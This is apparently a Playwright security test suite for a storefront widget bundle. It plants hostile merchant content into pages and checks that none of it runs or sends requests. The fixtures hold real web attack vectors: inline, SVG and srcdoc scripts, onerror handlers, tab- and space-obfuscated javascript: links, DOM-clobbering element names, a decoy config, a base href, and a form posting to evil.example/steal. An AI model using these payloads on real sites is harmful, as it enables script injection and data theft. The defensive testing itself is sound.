/**
 * The hostile-content suite (issue 28): a corpus of planted markup — a marker of every widget, ids and names that
 * clobber the page's globals and configuration, decoy parts, forms, scripts, styles and links with bypass schemes —
 * placed in every merchant-content area of every fixture page (each `[data-widget-ignore]` the page has, plus one at
 * the top of `main#content`, one in the aside and one in the footer, as a theme marks its shop-content blocks), under
 * the strict nonce CSP. Loaded at 390 px, resized to 1280 px and back (the responsive widget moves and clones content
 * below 757 px), and on the guide across a partial navigation there and back: nothing planted mounts (wherever it
 * was moved or cloned), runs, is given a nonce, or sends a request.
 */
import { readdirSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import { ALL_PAGES, STRICT_CSP, resizeTo, serveWithCsp, trackCspViolations, waitForWidgets } from './helpers';
import { nextPartial, partialDone } from './nav-helpers';

/** Every widget the bundle has (its folder's name is its marker's name). */
const WIDGETS = readdirSync(new URL('../../widgets/', import.meta.url), { withFileTypes: true })
  .filter((d) => d.isDirectory())
  .map((d) => d.name);

const EVIL = 'https://evil.example';

/** The planted markup: every element carries data-planted; whatever would run calls __planted(tag). */
function corpus(where: string): string {
  const p = `data-planted="${where}"`;
  const markers = WIDGETS.map(
    (name) =>
      `<div ${p} data-widget="${name}" data-hydrate="load" data-config='{"url":"${EVIL}/${name}","tiles":"${EVIL}/{z}/{x}/{y}.png","pointsUrl":"${EVIL}/p.json","basketUrl":"${EVIL}/b"}' data-basket-url="${EVIL}/b" data-tiles="${EVIL}/{z}/{x}/{y}.png"><a ${p} href="${EVIL}/${name}" data-mobile-clone>${name}</a></div>`,
  ).join('');
  return `<div ${p} data-mobile-grid="#content">${markers}
<form ${p} id="app_shop" name="storefront"><input name="urls" value="${EVIL}/"><input name="vars"></form>
<div ${p} id="storefront-config">{"graphql":"${EVIL}/graphql","accountsUrl":"${EVIL}/"}</div>
<script ${p} type="application/json" id="storefront-config">{"graphql":"${EVIL}/graphql"}</script>
<img ${p} name="instalmentData" src="data:,"><a ${p} id="selectLanguageConfig" href="${EVIL}/lang"></a><a ${p} id="product_data"></a>
<div ${p} id="projector_price_deposit" class="projector_prices__deposit --active"><strong id="projector_price_deposit_value" data-price="1">1</strong><a ${p} href="${EVIL}/deposit">?</a></div>
<form ${p} action="${EVIL}/steal" method="post" data-widget="form"><input name="email" value="a@b.pl"><input name="action" value="${EVIL}/"></form>
<script ${p}>__planted('inline script ${where}')</script>
<script ${p} class="ajaxLoad">__planted('ajaxLoad ${where}')</script>
<script ${p} data-ajax-load>__planted('ajax marked ${where}')</script>
<script ${p} src="${EVIL}/x.js"></script><script ${p} type="module" src="/storefront/loader.js" nonce="d3c0y"></script>
<style ${p}>#content { outline: 7px solid rgb(6, 6, 6) }</style><link ${p} rel="stylesheet" href="${EVIL}/x.css">
<img ${p} src="x" onerror="__planted('onerror ${where}')"><svg ${p}><script>__planted('svg ${where}')</script></svg>
<a ${p} href="java&#9;script:__planted('tab ${where}')">a</a><a ${p} href=" javascript:__planted('space ${where}')">b</a>
<iframe ${p} srcdoc="<script>parent.__planted('srcdoc ${where}')</script>"></iframe>
<template ${p}><div data-widget="menu_notice" data-hydrate="load"></div></template></div>`;
}

/** Puts the corpus into every merchant-content area of a page's HTML (after the theme's nonces are written). */
function plant(html: string): string {
  let out = html.replace(/(<[a-z]+\b[^>]*\sdata-widget-ignore(?:="[^"]*")?[^>]*>)/g, (tag) => `${tag}${corpus('ignored area')}`);
  const area = (where: string) => `<div data-widget-ignore class="hostile-area">${corpus(where)}</div>`;
  out = out.replace(/(<main\b[^>]*>)/, `$1${area('content')}`);
  out = out.replace(/(<aside\b[^>]*>)/, `$1${area('aside')}`);
  out = out.replace(/(<footer\b[^>]*>)/, `$1${area('footer')}`);
  return out;
}

interface Watch {
  requests: string[];
  navigations: string[];
}

async function watch(page: Page): Promise<Watch> {
  const w: Watch = { requests: [], navigations: [] };
  await page.route(
    (url) => url.hostname === 'evil.example',
    (route) => {
      w.requests.push(route.request().url());
      return route.abort();
    },
  );
  page.on('framenavigated', (frame) => frame === page.mainFrame() && w.navigations.push(frame.url()));
  // The decoy configuration's values, wherever they would travel (the batch's body: additional_ajax).
  page.on('request', (r) => (r.postData() ?? '').includes('planted') && w.requests.push(`planted data in ${r.url()}`));
  await page.addInitScript(() => {
    const calls: string[] = [];
    Object.defineProperty(window, '__plantedCalls', { value: calls });
    (window as unknown as { __planted: (tag: string) => void }).__planted = (tag) => calls.push(tag);
  });
  return w;
}

/** What the planted markup managed: mounted markers, runs, nonces it was given, the page's config it decided. */
async function damage(page: Page): Promise<Record<string, unknown>> {
  return page.evaluate(() => ({
    mounted: [...document.querySelectorAll('[data-planted][data-widget-state]')].map(
      (el) => `${el.getAttribute('data-widget')} (${el.getAttribute('data-widget-state')}) from ${el.getAttribute('data-planted')}`,
    ),
    ran: [...(window as unknown as { __plantedCalls: string[] }).__plantedCalls],
    nonced: [...document.querySelectorAll('[data-planted] script, script[data-planted], style[data-planted]')]
      // Only the theme's page nonce would let a script run; the decoy's own (browsers hide the attribute) is its own.
      .filter((el) => {
        const nonce = (el as HTMLElement).nonce || el.getAttribute('nonce');
        return nonce && nonce !== 'd3c0y';
      })
      .map((el) => el.outerHTML.slice(0, 80)),
    outlined: getComputedStyle(document.querySelector('#content') ?? document.body).outlineColor === 'rgb(6, 6, 6)',
  }));
}

const NONE = { mounted: [], ran: [], nonced: [], outlined: false };

test.describe('hostile merchant content', () => {
  for (const path of ALL_PAGES) {
    test(`${path}: nothing planted in its shop-content areas mounts, runs or sends a request, at 390 px, 1280 px and back`, async ({ page }) => {
      const w = await watch(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname === new URL(path, 'http://x').pathname, { edit: plant });
      await page.setViewportSize({ width: 390, height: 900 });
      await page.goto(path);
      await waitForWidgets(page);
      expect(await page.locator('[data-planted]').count()).toBeGreaterThan(WIDGETS.length);
      expect(await damage(page), 'at 390 px').toEqual(NONE);
      await resizeTo(page, 1280);
      expect(await damage(page), 'at 1280 px').toEqual(NONE);
      await resizeTo(page, 390);
      expect(await damage(page), 'back at 390 px').toEqual(NONE);
      expect(w.requests).toEqual([]);
      // No document but this one (same-document history entries of the page's own widgets stay on it).
      expect([...new Set(w.navigations.map((u) => new URL(u).pathname))]).toEqual([new URL(path, 'http://x').pathname]);
    });
  }

  for (const width of [390, 1280]) {
    test(`the guide at ${width} px: planted content arriving with a partial navigation, there and back, stays inert`, async ({ page }) => {
      const w = await watch(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname.endsWith('/guide.php'), { edit: plant });
      await page.route(
        (url) => url.pathname.endsWith('/guide.php') && url.searchParams.get('set_render') === 'content,head',
        async (route) => {
          const response = await route.fetch();
          // The server sends its nonce policy with the part too (without one, the part is loaded whole: below).
          const headers = { ...response.headers(), 'content-security-policy': STRICT_CSP.replace(/n0nce123/g, 'r3sp0nse') };
          // With the clobbering names too (below): they arrive after the loader started.
          await route.fulfill({ response, headers, body: plantClobbers(plant(await response.text())) });
        },
      );
      await page.setViewportSize({ width, height: 900 });
      await page.goto('/guide.php?id=1');
      await waitForWidgets(page);
      expect(await damage(page), 'first load').toEqual(NONE);
      await nextPartial(page);
      await page.locator('.guide__nav a', { hasText: 'Pielęgnacja odzieży' }).click();
      expect((await partialDone(page)).ok).toBe(true);
      await expect(page.locator('main [data-planted]').first()).toBeAttached();
      expect(await damage(page), 'after the partial navigation').toEqual(NONE);
      // The names that arrived with it shadow the document for no script (taken off after the swap), and the page works.
      expect(await page.evaluate(() => [typeof document.createElement, typeof document.querySelectorAll, String(document.head)])).toEqual([
        'function',
        'function',
        '[object HTMLHeadElement]',
      ]);
      const after = await health(page);
      expect([after.api, after.broken]).toEqual([HEALTHY.api, []]);
      await nextPartial(page);
      await page.goBack();
      expect((await partialDone(page)).ok).toBe(true);
      expect(await damage(page), 'back').toEqual(NONE);
      await resizeTo(page, width === 390 ? 1280 : 390);
      expect(await damage(page), 'resized').toEqual(NONE);
      expect(w.requests).toEqual([]);
    });
  }
});

/**
 * DOM clobbering (issue 36): `Document`'s (and a form's) named properties override its built-ins, so an element of
 * shop content named `head`, `scripts`, `querySelectorAll`… is what `document.<name>` answers. Every such name, as the
 * `id` or `name` of the elements that take part (object, form, img, embed, iframe), in a hidden shop-content area at
 * the top of the content (hidden: the page's layout, and so its widgets' moments, stay as they are), with a decoy
 * page configuration inside a `<form name="head">`.
 */
const CLOBBERED = [
  'head',
  'body',
  'documentElement',
  'scripts',
  'forms',
  'images',
  'cookie',
  'currentScript',
  'defaultView',
  'readyState',
  'activeElement',
  'title',
  'querySelector',
  'querySelectorAll',
  'getElementById',
  'createElement',
  'addEventListener',
  'dispatchEvent',
  'storefront',
  'storefrontWidgets',
  'storefront-config',
];
const DECOY_CONFIG = JSON.stringify({
  graphql: `${EVIL}/graphql`,
  accountsUrl: `${EVIL}/`,
  scriptPrefix: `${EVIL}/js/`,
  basketUrl: `${EVIL}/b`,
  // Fields no address check guards: only finding the real <head> keeps them out (the batch's body, the texts shown).
  additionalAjax: 'planted-ajax',
  texts: { 'ui.alert.info': 'PLANTED', 'ui.close': 'PLANTED' },
});

function clobbers(): string {
  // `head` only by the decoy form below: one element of a name is what `document.<name>` answers (several: a collection).
  const named = CLOBBERED.filter((n) => n !== 'head')
    .map(
      (n) =>
        `<form name="${n}"></form><img name="${n}" src="data:,"><embed name="${n}"><iframe name="${n}"></iframe><object id="${n}"></object><img id="${n}" name="${n}" src="data:,">`,
    )
    .join('');
  return (
    `<div data-widget-ignore hidden data-planted="clobbers">` +
    `<form name="head"><script type="application/json" id="storefront-config">${DECOY_CONFIG}</script></form>` +
    // A form whose controls shadow its own members (a form's named properties override its built-ins too; not
    // `getAttribute`, which Playwright's own text locator calls on every element).
    `<form name="newsletter"><input name="querySelector"><input name="closest"><input name="matches"></form>` +
    `${named}<a id="storefrontWidgets"></a><a id="storefront"></a></div>`
  );
}

/** The clobbering corpus at the top of the content (and, with `base`, a `<base href>` to another host before it). */
function plantClobbers(html: string, { base = false } = {}): string {
  return html.replace(/(<main\b[^>]*>)/, `$1${base ? `<base href="${EVIL}/">` : ''}${clobbers()}`);
}

/** What the bundle needs of a page, read through the prototypes (the test's own reads are not to be clobbered either). */
async function health(page: Page): Promise<{ api: string[]; broken: string[]; violations: string[] }> {
  return page.evaluate(() => {
    const all = Document.prototype.querySelectorAll.call(document, '[data-widget-state]:not([data-planted] *)');
    return {
      api: Object.keys((window as unknown as { storefront?: object }).storefront ?? {}).sort(),
      broken: [...all]
        .filter((el) => /failed|unknown/.test(el.getAttribute('data-widget-state')!))
        .map((el) => `${el.getAttribute('data-widget')} (${el.getAttribute('data-widget-state')})`),
      violations: ((window as unknown as { __csp?: { directive: string; sample: string }[] }).__csp ?? []).map((v) => `${v.directive}: ${v.sample}`),
    };
  });
}

const HEALTHY = { api: ['inspect', 'loadScript', 'ready', 'refresh', 'register', 'subscriptionPrice', 'toast', 'version'], broken: [], violations: [] };

/** The strict policy without `base-uri` (a shop whose policy does not restrict `<base>`: many do not). */
const STRICT_CSP_NO_BASE = STRICT_CSP.replace("base-uri 'self'; ", '');

/** Requests the bundle makes (not the page's own images) that left the page's origin. */
function offOrigin(page: Page): string[] {
  const seen: string[] = [];
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (!['image', 'media', 'font', 'document'].includes(r.resourceType()) && url.protocol.startsWith('http') && url.host !== new URL(page.url()).host)
      seen.push(`${r.resourceType()} ${r.url()}`);
  });
  return seen;
}

test.describe('DOM clobbering: names in shop content that shadow the document', () => {
  for (const path of ALL_PAGES) {
    test(`${path}: every clobbering name and a decoy configuration change nothing, at 390 px and 1280 px, under the strict CSP`, async ({ page }) => {
      const w = await watch(page);
      await trackCspViolations(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname === new URL(path, 'http://x').pathname, { edit: (html) => plantClobbers(html) });
      await page.setViewportSize({ width: 390, height: 900 });
      await page.goto(path);
      await waitForWidgets(page);
      // The decoy is there; the names that shadowed the document were taken off its elements (src/lib/unclobber.ts).
      expect(await page.locator('[data-planted="clobbers"] form > script#storefront-config').count()).toBe(1);
      expect(await page.locator('[data-planted="clobbers"] [name="head"], [data-planted="clobbers"] [name="createElement"]').count()).toBe(0);
      expect(await health(page), 'at 390 px').toEqual(HEALTHY);
      await resizeTo(page, 1280);
      expect(await health(page), 'at 1280 px').toEqual(HEALTHY);
      expect(w.requests).toEqual([]);
    });
  }

  for (const path of ['/', '/product-pol-1-x.html', '/guide.php?id=1', '/basketedit.php', '/client-new.php']) {
    test(`${path}: the same names outside any [data-widget-ignore] (left as they are) do not stop the bundle's own code, at 390 px and 1280 px`, async ({
      page,
    }) => {
      const w = await watch(page);
      await trackCspViolations(page);
      await serveWithCsp(page, STRICT_CSP, (url) => url.pathname === new URL(path, 'http://x').pathname, {
        edit: (html) => plantClobbers(html).replace('<div data-widget-ignore hidden data-planted="clobbers">', '<div hidden data-planted="clobbers">'),
      });
      await page.setViewportSize({ width: 390, height: 900 });
      await page.goto(path);
      await waitForWidgets(page);
      // Not shop content by the theme's marks: nothing is taken off, the document stays shadowed for every script.
      expect(await page.evaluate(() => typeof document.createElement)).toBe('object');
      expect(await health(page), 'at 390 px').toEqual(HEALTHY);
      // The page configuration is the real <head>'s: the decoy's texts are never shown.
      await page.evaluate(() => (window as unknown as { storefront: { toast(t: object): Promise<void> } }).storefront.toast({ text: 'Zapisano', duration: 0 }));
      await expect(page.getByText('Zapisano', { exact: true }).first()).toBeVisible();
      await expect(page.getByText('PLANTED')).toHaveCount(0);
      await resizeTo(page, 1280);
      expect(await health(page), 'at 1280 px').toEqual(HEALTHY);
      expect(w.requests).toEqual([]);
    });
  }

  test('toasts, a late marker and the documented queue snippet (the shop script after the content) still work', async ({ page }) => {
    const w = await watch(page);
    await trackCspViolations(page);
    await serveWithCsp(page, STRICT_CSP, (url) => url.pathname === '/guide.php', {
      edit: (html) =>
        plantClobbers(html).replace(
          '</body>',
          // The shop's script, after the content (docs/api.md "window.storefrontWidgets"), with the theme's nonce.
          `<script nonce="n0nce123">(window.storefrontWidgets = Array.isArray(window.storefrontWidgets) ? window.storefrontWidgets : []).push({ name: 'probe_badge', hydrate: 'load', mount(el) { el.textContent = 'probe mounted'; } });</script><div data-widget="probe_badge"></div></body>`,
        ),
    });
    for (const width of [390, 1280]) {
      await page.setViewportSize({ width, height: 900 });
      await page.goto('/guide.php?id=1');
      await waitForWidgets(page);
      await expect(page.locator('[data-widget="probe_badge"]')).toHaveText('probe mounted');
      await page.evaluate(() => (window as unknown as { storefront: { toast(t: object): Promise<void> } }).storefront.toast({ text: 'Zapisano', duration: 0 }));
      await expect(page.getByText('Zapisano', { exact: true }).first()).toBeVisible();
      await expect(page.getByText('PLANTED')).toHaveCount(0);
      // A marker that arrives later mounts (the runtime's observer and its queries through the prototypes).
      await page.evaluate(() => {
        const late = Document.prototype.createElement.call(document, 'div');
        late.setAttribute('data-widget', 'probe_badge');
        late.id = 'late-probe';
        Document.prototype.querySelector.call(document, 'main')!.append(late);
      });
      await expect(page.locator('#late-probe')).toHaveText('probe mounted');
      expect(await health(page), `at ${width} px`).toEqual(HEALTHY);
    }
    expect(w.requests).toEqual([]);
  });

  test("a decoy configuration and a <base href> to another host: GraphQL, the batch, scripts by name and the error log stay on the page's origin", async ({
    page,
  }) => {
    await watch(page);
    const off = offOrigin(page);
    const own: string[] = [];
    page.on('request', (r) => {
      const u = new URL(r.url());
      if (u.host === new URL(page.url() || 'http://x').host && r.resourceType() !== 'document')
        own.push(`${r.method()} ${u.pathname}${u.search.startsWith('?JSerror') ? '?JSerror' : ''}`);
    });
    await page.route('**/gfx/pol/slider.js', (route) => route.fulfill({ contentType: 'text/javascript', body: 'window.__slider = 1;' }));
    await trackCspViolations(page);
    await serveWithCsp(page, STRICT_CSP_NO_BASE, (url) => url.pathname === '/guide.php', { edit: (html) => plantClobbers(html, { base: true }) });
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.goto('/guide.php?id=1');
    await waitForWidgets(page);
    // The loader's tag is found by its src as written (against the page, not the planted base): its nonce is used.
    expect(await health(page)).toEqual(HEALTHY);
    // The planted <base> is in force for the page's own markup (the policy does not restrict it) …
    expect(await page.evaluate(() => Object.getOwnPropertyDescriptor(Node.prototype, 'baseURI')!.get!.call(document))).toBe(`${EVIL}/`);
    // … but not for the bundle: the batch, a search keystroke's GraphQL, a script by name, the error log.
    const input = page.locator('#guide_search_1');
    await input.click();
    await input.pressSequentially('kur');
    await expect.poll(() => own.filter((r) => r === 'POST /graphql/v1/')).toHaveLength(1);
    await page.evaluate(() => (window as unknown as { storefront: { loadScript(n: string): Promise<unknown> } }).storefront.loadScript('slider'));
    expect(await page.evaluate(() => (window as unknown as { __slider?: number }).__slider)).toBe(1);
    await page.evaluate(() => setTimeout(() => Promise.reject(new Error('probe of the error log'))));
    await expect.poll(() => own.filter((r) => r.endsWith('?JSerror')), own.join(', ')).toHaveLength(1);
    expect(own).toContain('POST /ajax/get.php');
    expect(own).toContain('GET /gfx/pol/slider.js');
    expect(off).toEqual([]);
  });
});

/**
 * Partial loads fail closed (issue 36): when the page runs under a nonce and the answer carries no nonce policy of its
 * own (the page's policy is in a `<meta>`, or the server sends CSP on full documents only), which of its scripts and
 * styles a full load would have run cannot be told: the page is loaded whole instead, under its own policy, and
 * nothing of the answer ever gets the page's nonce.
 */
test.describe('partial loads under a nonce, the answer without a nonce policy', () => {
  const setups = {
    'CSP on full documents only': async (page: Page) => serveWithCsp(page, STRICT_CSP, (url) => url.pathname.endsWith('/guide.php'), { edit: plant }),
    'the policy in a <meta http-equiv>': async (page: Page) =>
      page.route(
        (url) => url.pathname.endsWith('/guide.php') && !url.searchParams.has('set_render'),
        async (route) => {
          if (route.request().resourceType() !== 'document') return route.fallback();
          const response = await route.fetch();
          const html = plant(
            (await response.text())
              .replace(/<script(?=[\s>])(?![^>]*type="application\/(?:ld\+)?json")/g, '<script nonce="n0nce123"')
              .replace(/<head>/, `<head><meta http-equiv="Content-Security-Policy" content="${STRICT_CSP.replace("; base-uri 'self'", '')}">`),
          );
          const headers = { ...response.headers() };
          delete headers['content-security-policy'];
          await route.fulfill({ response, headers, body: html });
        },
      ),
  };
  for (const [name, setup] of Object.entries(setups)) {
    for (const width of [390, 1280]) {
      test(`${name}, at ${width} px: the guide is loaded whole; nothing of the answer runs or is styled with the page's nonce`, async ({ page }) => {
        const w = await watch(page);
        await setup(page);
        await page.route(
          (url) => url.pathname.endsWith('/guide.php') && url.searchParams.get('set_render') === 'content,head',
          async (route) => {
            const response = await route.fetch();
            const headers = { ...response.headers() };
            delete headers['content-security-policy'];
            await route.fulfill({ response, headers, body: plant(await response.text()) });
          },
        );
        await page.setViewportSize({ width, height: 900 });
        await page.goto('/guide.php?id=1');
        await waitForWidgets(page);
        expect(await damage(page), 'first load').toEqual(NONE);
        await nextPartial(page);
        await page.evaluate(() => ((window as unknown as { __sameDocument: number }).__sameDocument = 1));
        const arrived = page.waitForURL(/guide\.php\?id=2$/, { waitUntil: 'load' });
        await page.locator('.guide__nav a', { hasText: 'Pielęgnacja odzieży' }).click();
        await arrived;
        await waitForWidgets(page);
        await expect(page.locator('main h1')).toHaveText('Pielęgnacja odzieży');
        // A full navigation: a new document (the marker set by the first one is gone), under the page's own policy.
        expect(await page.evaluate(() => (window as unknown as { __sameDocument?: number }).__sameDocument)).toBeUndefined();
        expect(await page.evaluate(() => (window as unknown as { __plantedCalls: string[] }).__plantedCalls.length)).toBe(0);
        expect(await damage(page), 'after the navigation').toEqual(NONE);
        expect([...new Set(w.navigations.map((u) => new URL(u).search))]).toEqual(['?id=1', '?id=2']);
        expect(w.requests).toEqual([]);
      });
    }
  }
});

test("a <base href> to another host in shop content: a relative request of a widget (prices per size) stays on the page's origin", async ({ page }) => {
  await watch(page);
  const off = offOrigin(page);
  const asked: string[] = [];
  page.on('request', (r) => r.url().includes('/ajax/projector.php') && asked.push(new URL(r.url()).origin));
  await trackCspViolations(page);
  await serveWithCsp(page, STRICT_CSP_NO_BASE, (url) => url.pathname === '/product-pol-228-x.html', { edit: (html) => plantClobbers(html, { base: true }) });
  await page.setViewportSize({ width: 1280, height: 900 });
  await page.goto('/product-pol-228-x.html');
  await waitForWidgets(page);
  await page.locator('#projector_sizes_section [data-size-type="50"]').click();
  await expect.poll(() => asked).toEqual([new URL(page.url()).origin]);
  expect(off).toEqual([]);
});
